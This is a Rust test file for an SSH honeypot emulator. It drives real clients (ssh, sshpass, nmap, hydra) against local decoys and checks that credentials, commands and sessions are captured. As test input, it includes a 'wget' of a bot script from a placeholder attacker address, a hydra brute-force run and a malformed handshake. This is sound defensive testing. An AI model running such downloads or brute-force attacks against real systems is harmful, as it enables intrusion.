//! The SSH emulator against the real OpenSSH client, sshpass, hydra and nmap.

use std::collections::HashSet;
use std::path::Path;
use std::process::Stdio;
use std::time::Duration;

use decnet_core::event::SecretKind;
use decnet_core::{Event, EventType};
use tokio::io::AsyncWriteExt;
use tokio::process::Command;

use crate::harness::{decky, have, serve, svc, unique_ip, Served};

const FAST: &[(&str, &str)] = &[("auth_delay_ms", "5")];

async fn start(dir: &Path, name: &str, persona: &[(&str, &str)]) -> Served {
    let d = decky(name, &unique_ip(), dir, vec![svc("ssh", persona)]);
    serve(d, "ssh").await
}

/// `ssh` with a throwaway HOME and no host-key bookkeeping.
fn ssh(home: &Path, s: &Served, user: &str, auth: &str, opts: &[&str]) -> Command {
    let mut c = Command::new("ssh");
    c.env("HOME", home)
        .args([
            "-o",
            "StrictHostKeyChecking=no",
            "-o",
            "UserKnownHostsFile=/dev/null",
        ])
        .args(["-o", "LogLevel=ERROR", "-o", "ConnectTimeout=10"])
        .args(["-o", &format!("PreferredAuthentications={auth}")])
        .args(["-o", "NumberOfPasswordPrompts=1"])
        .args(["-p", &s.addr.port().to_string()])
        .args(opts)
        .arg(format!("{user}@{}", s.addr.ip()))
        .stdin(Stdio::null())
        .kill_on_drop(true);
    c
}

fn sshpass(password: &str, inner: Command) -> Command {
    let inner = inner.as_std();
    let mut c = Command::new("sshpass");
    c.arg("-p").arg(password).arg(inner.get_program());
    c.args(inner.get_args());
    for (k, v) in inner.get_envs() {
        if let Some(v) = v {
            c.env(k, v);
        }
    }
    c.stdin(Stdio::null()).kill_on_drop(true);
    c
}

async fn output(mut c: Command) -> std::process::Output {
    tokio::time::timeout(Duration::from_secs(60), c.output())
        .await
        .expect("client finished in time")
        .expect("client ran")
}

/// A refused attempt that offered a secret (clients ask with `none` first; that is captured too).
fn offered_secret(e: &Event) -> bool {
    e.event_type == EventType::LoginAttempt && e.fields["method"] != "none"
}

fn secret(e: &Event) -> (&str, Option<&str>, SecretKind) {
    let c = e.credential.as_ref().expect("credential");
    (
        c.principal.as_str(),
        c.secret_printable.as_deref(),
        c.secret_kind,
    )
}

#[tokio::test]
async fn a_wrong_password_is_a_login_attempt_with_the_exact_secret() {
    if !have("sshpass") {
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let mut s = start(tmp.path(), "ssh-wrongpw", FAST).await;
    let mut c = ssh(tmp.path(), &s, "bob", "password", &[]);
    c.arg("true");
    let out = output(sshpass("hunter2 x", c)).await;
    assert!(!out.status.success());
    let e = s
        .wait_for(Duration::from_secs(20), offered_secret)
        .await
        .expect("login_attempt");
    assert_eq!(secret(&e), ("bob", Some("hunter2 x"), SecretKind::Password));
    assert_eq!(e.fields["method"], "password");
    assert!(e.fields["client_version"]
        .as_str()
        .unwrap()
        .starts_with("SSH-2.0-OpenSSH_"));
    let hassh = e.fields["hassh"].as_str().unwrap();
    assert_eq!(hassh.len(), 32);
    assert!(e.fields["hassh_algorithms"]
        .as_str()
        .unwrap()
        .contains("curve25519-sha256"));
}

#[tokio::test]
async fn the_right_password_and_exec_run_the_fake_shell() {
    if !have("sshpass") {
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let mut s = start(tmp.path(), "ssh-exec", FAST).await;
    let mut c = ssh(tmp.path(), &s, "root", "password", &[]);
    c.arg("uname -a");
    let out = output(sshpass("root", c)).await;
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{stdout} {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let d = s.decky.config.distro;
    assert_eq!(
        stdout,
        format!(
            "{}\n",
            d.uname("a", &s.decky.config.hostname, d.kernel_release)
        )
    );
    let ok = s
        .wait_type(EventType::LoginSuccess)
        .await
        .expect("login_success");
    assert_eq!(secret(&ok), ("root", Some("root"), SecretKind::Password));
    let cmd = s.wait_type(EventType::Command).await.expect("command");
    assert_eq!(cmd.fields["command"], "uname -a");
    assert_eq!(cmd.fields["user"], "root");
    assert_eq!(cmd.fields["cwd"], "/root");
    assert_eq!(cmd.session_id, ok.session_id);
}

#[tokio::test]
async fn public_keys_are_captured_with_their_fingerprint_and_refused() {
    if !have("ssh-keygen") {
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let key = tmp.path().join("id_ed25519");
    let gen = output({
        let mut c = Command::new("ssh-keygen");
        c.args(["-q", "-t", "ed25519", "-N", "", "-C", "", "-f"])
            .arg(&key);
        c
    })
    .await;
    assert!(gen.status.success());
    let fp = output({
        let mut c = Command::new("ssh-keygen");
        c.arg("-lf").arg(key.with_extension("pub"));
        c
    })
    .await;
    let fp = String::from_utf8_lossy(&fp.stdout)
        .split_whitespace()
        .nth(1)
        .unwrap()
        .to_owned();
    let pubtext = std::fs::read_to_string(key.with_extension("pub")).unwrap();
    let mut s = start(tmp.path(), "ssh-pubkey", FAST).await;
    let key_s = key.to_string_lossy().into_owned();
    let mut c = ssh(
        tmp.path(),
        &s,
        "deploy",
        "publickey",
        &[
            "-o",
            "IdentitiesOnly=yes",
            "-o",
            "BatchMode=yes",
            "-i",
            &key_s,
        ],
    );
    c.arg("true");
    let out = output(c).await;
    assert!(!out.status.success(), "every key is refused");
    let e = s
        .wait_for(Duration::from_secs(20), offered_secret)
        .await
        .expect("login_attempt");
    let (principal, printable, kind) = secret(&e);
    assert_eq!((principal, kind), ("deploy", SecretKind::SshPubkey));
    assert_eq!(printable.unwrap().trim(), pubtext.trim());
    assert_eq!(e.fields["fingerprint"], fp.as_str());
    assert_eq!(e.fields["key_type"], "ssh-ed25519");
    assert_eq!(e.fields["method"], "publickey");
}

#[tokio::test]
async fn an_interactive_session_is_recorded_and_its_commands_are_events() {
    if !have("sshpass") {
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let mut s = start(tmp.path(), "ssh-pty", FAST).await;
    let mut c = sshpass("admin", ssh(tmp.path(), &s, "admin", "password", &["-tt"]));
    c.stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let mut child = c.spawn().unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let ok = s
        .wait_type(EventType::LoginSuccess)
        .await
        .expect("login_success");
    stdin.write_all(b"cd /etc\n").await.unwrap();
    let e = s.wait_type(EventType::Command).await.expect("cd");
    assert_eq!(e.fields["command"], "cd /etc");
    stdin.write_all(b"cat hostname\n").await.unwrap();
    let e = s.wait_type(EventType::Command).await.expect("cat");
    assert_eq!(e.fields["command"], "cat hostname");
    assert_eq!(e.fields["cwd"], "/etc");
    assert_eq!(e.fields["user"], "admin");
    stdin
        .write_all(b"wget http://198.51.100.9/bot.sh\n")
        .await
        .unwrap();
    let dl = s
        .wait_type(EventType::FileDownload)
        .await
        .expect("file_download");
    assert_eq!(dl.fields["url"], "http://198.51.100.9/bot.sh");
    assert_eq!(dl.fields["tool"], "wget");
    stdin.write_all(b"exit\n").await.unwrap();
    let rec = s
        .wait_type(EventType::SessionRecorded)
        .await
        .expect("session_recorded");
    let out = tokio::time::timeout(Duration::from_secs(20), child.wait_with_output())
        .await
        .unwrap()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains("admin@ssh-pty-host:/etc$ "), "{stdout}");
    assert!(stdout.contains("ssh-pty-host\r\n"), "{stdout}");

    let sid = rec.fields["sid"].as_str().unwrap();
    assert_eq!(Some(sid.parse().unwrap()), ok.session_id);
    assert_eq!(rec.fields["truncated"], false);
    assert!(rec.fields["bytes"].as_u64().unwrap() > 0);
    let shard = rec.fields["shard"].as_str().unwrap();
    assert!(shard.ends_with(&format!(
        "artifacts/ssh-pty/ssh/transcripts/sessions-{}.jsonl",
        chrono::Utc::now().format("%Y-%m-%d")
    )));
    let lines = decnet_services::recorder::read_session(
        &s.decky.artifacts_dir("ssh").join("transcripts"),
        chrono::Utc::now().date_naive(),
        sid.parse().unwrap(),
    )
    .unwrap();
    let v: Vec<serde_json::Value> = lines
        .iter()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(v[0]["hdr"]["version"], 2);
    assert_eq!(v[0]["hdr"]["env"]["SHELL"], "/bin/bash");
    let input: String = v
        .iter()
        .filter(|l| l["ch"] == "i")
        .filter_map(|l| l["d"].as_str())
        .collect();
    assert!(input.contains("cat hostname"), "{input:?}");
    assert!(v.iter().any(|l| l["ch"] == "o"
        && l["d"]
            .as_str()
            .is_some_and(|d| d.contains("ssh-pty-host\r\n"))));
}

#[tokio::test]
async fn nmap_version_detection_reports_the_persona_openssh() {
    if !have("nmap") {
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let mut s = start(tmp.path(), "ssh-nmap", FAST).await;
    let mut c = Command::new("nmap");
    c.args(["-sV", "-Pn", "-n", "-p"])
        .arg(s.addr.port().to_string())
        .arg(s.addr.ip().to_string())
        .kill_on_drop(true);
    let out = output(c).await;
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("OpenSSH 8.9p1 Ubuntu 3ubuntu0.6"),
        "nmap said:\n{text}"
    );
    assert!(s.wait_type(EventType::Scan).await.is_some());
}

#[tokio::test]
async fn a_hydra_brute_force_is_captured_exactly_once_per_password() {
    if !have("hydra") {
        return;
    }
    const N: usize = 520;
    let tmp = tempfile::tempdir().unwrap();
    let list: Vec<String> = (0..N).map(|i| format!("pw-{i:04}")).collect();
    std::fs::write(tmp.path().join("pw.txt"), list.join("\n") + "\n").unwrap();
    let mut s = start(tmp.path(), "ssh-hydra", &[("auth_delay_ms", "1")]).await;
    let mut c = Command::new("hydra");
    c.current_dir(tmp.path())
        .args(["-I", "-t", "16", "-l", "root", "-P", "pw.txt", "-s"])
        .arg(s.addr.port().to_string())
        .arg(format!("ssh://{}", s.addr.ip()))
        .stdin(Stdio::null())
        .kill_on_drop(true);
    let out = tokio::time::timeout(Duration::from_secs(300), c.output())
        .await
        .expect("hydra finished")
        .expect("hydra ran");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("0 valid password"), "{text}");
    // Like sshd, the decky disconnects at the sixth failure (MaxAuthTries); hydra
    // then tries that password again on a new connection (unless it was its
    // last), so the password a disconnect cut may be seen twice, and no other.
    let mut attempts: Vec<(Option<uuid::Uuid>, String)> = Vec::new();
    let mut cut_sessions = HashSet::new();
    loop {
        let Some(e) = s
            .wait_for(Duration::from_secs(20), |e| {
                offered_secret(e)
                    || (e.event_type == EventType::LimitExceeded
                        && e.fields["limit"] == "max_auth_tries")
            })
            .await
        else {
            break;
        };
        if e.event_type == EventType::LimitExceeded {
            cut_sessions.insert(e.session_id);
        } else {
            attempts.push((e.session_id, secret(&e).1.unwrap_or_default().to_owned()));
        }
    }
    // The password of a cut session is its last attempt.
    let cut: HashSet<&String> = cut_sessions
        .iter()
        .filter_map(|sid| {
            attempts
                .iter()
                .rev()
                .find(|(s, _)| s == sid)
                .map(|(_, p)| p)
        })
        .collect();
    let mut times: std::collections::HashMap<&String, usize> = Default::default();
    for (_, p) in &attempts {
        *times.entry(p).or_default() += 1;
    }
    for (p, n) in &times {
        assert!(
            *n == 1 || (*n == 2 && cut.contains(p)),
            "{p} seen {n} times (cut by a disconnect: {}); hydra said:\n{text}",
            cut.contains(p)
        );
    }
    assert!(!cut_sessions.is_empty(), "hydra's runs hit MaxAuthTries");
    assert_eq!(times.len(), N, "every password captured");
    assert!(list.iter().all(|p| times.contains_key(p)));
}

async fn host_key(s: &Served, kind: &str) -> String {
    let mut c = Command::new("ssh-keyscan");
    c.args(["-t", kind, "-p"])
        .arg(s.addr.port().to_string())
        .arg(s.addr.ip().to_string())
        .kill_on_drop(true);
    let out = output(c).await;
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    text.split_whitespace()
        .skip(1)
        .take(2)
        .collect::<Vec<_>>()
        .join(" ")
}

#[tokio::test]
async fn host_keys_are_stable_per_seed_and_differ_between_deckies() {
    if !have("ssh-keyscan") {
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let a1 = start(tmp.path(), "ssh-key-a", FAST).await;
    let a2 = start(tmp.path(), "ssh-key-a", FAST).await;
    let b = start(tmp.path(), "ssh-key-b", FAST).await;
    for (kind, prefix) in [
        ("ed25519", "ssh-ed25519 AAAA"),
        ("ecdsa", "ecdsa-sha2-nistp256 AAAA"),
    ] {
        let (ka1, ka2, kb) = (
            host_key(&a1, kind).await,
            host_key(&a2, kind).await,
            host_key(&b, kind).await,
        );
        assert!(ka1.starts_with(prefix), "{kind}: {ka1}");
        assert_eq!(ka1, ka2, "{kind}");
        assert_ne!(ka1, kb, "{kind}");
    }
}

#[tokio::test]
async fn a_malformed_client_ends_its_connection_with_a_protocol_error() {
    let tmp = tempfile::tempdir().unwrap();
    let mut s = start(tmp.path(), "ssh-garbage", FAST).await;
    let mut c = tokio::net::TcpStream::connect(s.addr).await.unwrap();
    c.write_all(b"SSH-2.0-evil\r\n\x00\x00\x00\x0c\x0a\x15garbagegarbage")
        .await
        .unwrap();
    // No credential was tried, so it is also a scan, carrying what the client said.
    let scan = s.wait_type(EventType::Scan).await.expect("scan");
    assert_eq!(scan.fields["client_version"], "SSH-2.0-evil");
    let e = s
        .wait_type(EventType::ProtocolError)
        .await
        .expect("protocol_error");
    assert!(!e.fields["reason"].as_str().unwrap().is_empty());
    // The service is still up for the next client.
    let mut c2 = tokio::net::TcpStream::connect(s.addr).await.unwrap();
    let mut banner = [0u8; 40];
    use tokio::io::AsyncReadExt;
    let n = c2.read(&mut banner).await.unwrap();
    assert!(banner[..n].starts_with(b"SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.6"));
}
